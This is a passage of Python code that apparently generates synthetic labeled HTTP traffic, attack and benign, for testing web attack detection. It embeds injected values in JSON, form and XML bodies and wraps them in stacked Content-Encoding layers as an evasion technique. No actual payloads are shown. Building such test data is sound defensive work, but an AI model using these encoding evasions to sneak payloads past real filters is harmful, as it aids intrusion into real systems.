        events = [{"event": rng.choice(["page_view", "add_to_cart", "search"]), "ts": 1733300000 + rng.randrange(10**5), "props": {"q": search_term(rng)}} for _ in range(rng.randrange(3, 12))]
        events[rng.randrange(len(events))]["props"]["q"] = v
        return json.dumps({"batch": events}, ensure_ascii=False).encode("utf-8"), "application/json", "json"
    if shape == "form":
        return form_body([("name", person(rng)), (key, v), ("lang", "en")]).encode(), \
            "application/x-www-form-urlencoded", "form"
    key = "".join(c for c in key if c.isalnum() or c == "_")
    return ('<?xml version="1.0"?><ticket><subject>%s</subject><%s>%s</%s></ticket>' % (xml_text(product(rng)), key, xml_text(v), key)).encode("utf-8"), \
        "application/xml", "xml"


def encoded_attack(rng):
    host = rng.choice(HOSTS_API)
    h = _headers(rng, host, True)
    cls, value, evasion = attack_value(rng)
    raw, ctype, shape = _coded_body(rng, value, cls)
    codings = weighted(rng, CODINGS)
    body, header = encode_body(raw, codings)
    method = rng.choice(["POST", "POST", "PUT", "PATCH"])
    return rec(method, rng.choice(ENC_ENDPOINTS), h + [["Content-Type", ctype], ["Content-Encoding", header]], body,
               shape + "_" + "_".join(codings), evasion, cls)


def encoded_benign(rng):
    host = rng.choice(HOSTS_API)
    h = _headers(rng, host, False)
    raw, ctype, shape = _coded_body(rng)
    codings = weighted(rng, CODINGS)
    body, header = encode_body(raw, codings)
    return rec(rng.choice(["POST", "POST", "PUT"]), rng.choice(ENC_ENDPOINTS), h + [["Content-Type", ctype], ["Content-Encoding", header]], body,
               shape + "_" + "_".join(codings), "none")
